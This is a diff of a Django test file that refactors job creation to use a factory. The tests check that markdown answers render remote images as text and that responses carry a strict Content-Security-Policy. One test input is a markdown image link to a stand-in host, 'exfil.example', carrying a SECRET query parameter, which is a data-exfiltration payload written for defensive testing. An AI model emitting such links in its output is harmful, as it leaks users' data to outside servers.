@@ -13,8 +13,9 @@ from django.urls import reverse
 
 from audit_app.models import Team
 from audit_app.templatetags.glassbox import markdown
+from tests.factories import FinishedJobFactory
 from tests.service.conftest import make_user
-from tests.service.test_web import client_for, finished_job
+from tests.service.test_web import client_for
 
 ROOT = Path(__file__).resolve().parents[2]
 HOSTILE_MARKDOWN = [
@@ -62,7 +63,7 @@ def test_markdown_keeps_its_structure():
 
 
 def test_job_page_shows_a_remote_image_as_text(analyst: User, team: Team):
-    job = finished_job(analyst, team, "See ![chart](https://exfil.example/c.png?d=SECRET)")
+    job = FinishedJobFactory(submitter=analyst, team=team, answer="See ![chart](https://exfil.example/c.png?d=SECRET)")
     page = client_for(analyst).get(reverse("job-detail", args=[job.pk])).content.decode()
     answer = page.split('class="answer">')[1].split("</div>")[0]
     assert "[image: chart — https://exfil.example/c.png?d=SECRET]" in answer
@@ -90,7 +91,7 @@ def csp_directives(header: str) -> dict[str, str]:
 )
 def test_every_response_sends_a_strict_content_security_policy(role: str | None, url: str, analyst: User, team: Team):
     if url in ("job-detail", "job-live"):
-        url = reverse(url, args=[finished_job(analyst, team, "Done.").pk])
+        url = reverse(url, args=[FinishedJobFactory(submitter=analyst, team=team, answer="Done.").pk])
     client = Client() if role is None else client_for(analyst if role == "analyst" else make_user(role, role, None))
     response = client.get(url)
     policy = csp_directives(response["Content-Security-Policy"])
